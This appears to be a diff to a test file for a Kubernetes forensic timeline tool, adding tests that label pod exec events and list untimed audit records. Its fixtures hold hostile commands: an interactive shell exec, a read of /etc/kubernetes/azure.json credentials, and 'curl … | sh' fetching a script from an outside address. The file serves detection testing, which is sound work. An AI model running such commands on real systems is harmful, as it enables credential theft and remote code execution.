@@ -115,6 +115,38 @@ describe('timeline of the compromise scenario', () => {
     expect(historyCommand('/bin/sh')).toEqual(COLLECTOR_ACTION.command);
   });
 
+  it('says what each exec ran: command, container, terminal and stdin, on the entry and in its summary', async () => {
+    const { entries } = await buildTimeline(bundle.store);
+    const shell = entries.find((e) => e.actor === 'masterclient' && e.exec?.kind === 'exec')!;
+    expect(shell.exec).toEqual({ kind: 'exec', command: ['/bin/sh', '-i'], container: 'api', tty: true, stdin: true });
+    expect(shell.summary).toMatch(/^exec \[\/bin\/sh -i\] in prod\/api-5f6d7c8b9-klmno \(api\) tty stdin → 101$/);
+    expect(shell.labels?.map((l) => l.ruleId)).toEqual(['pod-exec', 'exec-interactive-shell']);
+    expect(shell.labels?.find((l) => l.ruleId === 'pod-exec')?.attack).toEqual(['T1609']);
+  });
+
+  it('lists audit events without a time apart from the timeline, still labelled', async () => {
+    const timeless: AuditEvent = {
+      kind: 'Event',
+      apiVersion: 'audit.k8s.io/v1',
+      level: '',
+      auditID: '',
+      stage: '',
+      verb: 'create',
+      requestURI: '/api/v1/namespaces/prod/pods/web-0/exec?command=cat&command=%2Fetc%2Fkubernetes%2Fazure.json&container=web',
+      user: { username: 'mallory' },
+      objectRef: { resource: 'pods', namespace: 'prod', name: 'web-0', subresource: 'exec' },
+      responseStatus: { code: 101 },
+      parseNote: { missing: ['auditID', 'stage', 'level', 'requestReceivedTimestamp', 'stageTimestamp'] },
+    };
+    const result = await buildTimeline(bundle.store, { extraAuditEvents: [timeless], filter: { sinceMs: Date.parse('2024-06-01T10:00:00Z') } });
+    expect(result.entries.some((e) => e.actor === 'mallory')).toBe(false);
+    expect(result.untimed.map((e) => [e.actor, e.partial, e.labels?.map((l) => l.ruleId)])).toEqual([['mallory', true, ['pod-exec', 'exec-read-node-credentials']]]);
+    expect(result.notes).toContain('1 entry has no time of its own (cut or incomplete audit records): listed apart, after the timeline');
+    const table = new Sink();
+    await writeTimeline(result.entries, 'table', table, result.untimed);
+    expect(table.text).toMatch(/Without a time of their own \(cut or incomplete audit records\), not placed on the timeline:\n\(no time\) .*mallory.*exec \[cat \/etc\/kubernetes\/azure\.json\]/);
+  });
+
   it('merges shell history and Kubernetes events, with their own times or marked approximate', async () => {
     const { entries } = await buildTimeline(bundle.store);
     const curl = entries.find((e) => e.type === 'ShellCommand' && e.summary === 'curl -s http://198.51.100.7/x.sh | sh')!;
@@ -146,6 +178,8 @@ describe('timeline of the compromise scenario', () => {
     expect(onlyEvents.length).toBe(all.filter((e) => e.source === 'events').length);
     expect(onlyEvents.every((e) => e.type === 'KubeEvent')).toBe(true);
     expect((await by({ filter: { namespace: 'kube-system', labelledOnly: true } })).map((e) => e.labels?.map((l) => l.ruleId).join(','))).toEqual([
+      // the probing before the attack: a refused Secret read, labelled as such
+      'secret-read-denied',
       'anonymous-success,secret-list',
       'anonymous-success,workload-download-and-run,cronjob-created',
     ]);
@@ -158,7 +192,7 @@ describe('timeline of the compromise scenario', () => {
     const table = await render(entries, 'table');
     const csv = await render(entries, 'csv');
     const json = await render(entries, 'json');
-    expect(table.split('\n')[0]).toMatch(/^TIME \(UTC\)\s+C SEVERITY/);
+    expect(table.split('\n')[0]).toMatch(/^TIME \(UTC\)\s+C T SEVERITY/);
     expect(table).toMatch(/2024-06-01T12:01:10\.000Z\s+\* /);
     expect(csv.split('\n')[0]).toBe(TIMELINE_CSV_COLUMNS.join(','));
     expect(JSON.parse(json)).toHaveLength(entries.length);
